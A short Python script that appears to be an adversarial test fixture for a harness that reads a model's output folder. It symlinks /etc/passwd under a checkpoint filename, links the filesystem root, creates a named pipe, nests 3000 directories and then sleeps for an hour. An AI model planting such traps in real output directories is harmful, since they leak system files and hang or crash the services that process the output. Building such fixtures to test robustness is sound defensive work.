# Tries: to make whoever looks at its output fall over: folders a thousand deep, links to the outside, a pipe.
import os
import time


def main():
    os.chdir("/out")
    os.symlink("/etc/passwd", "model.safetensors")
    os.symlink("/", "everything")
    os.mkfifo("pipe")
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    print("made 3000 folders", flush=True)
    time.sleep(3600)


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
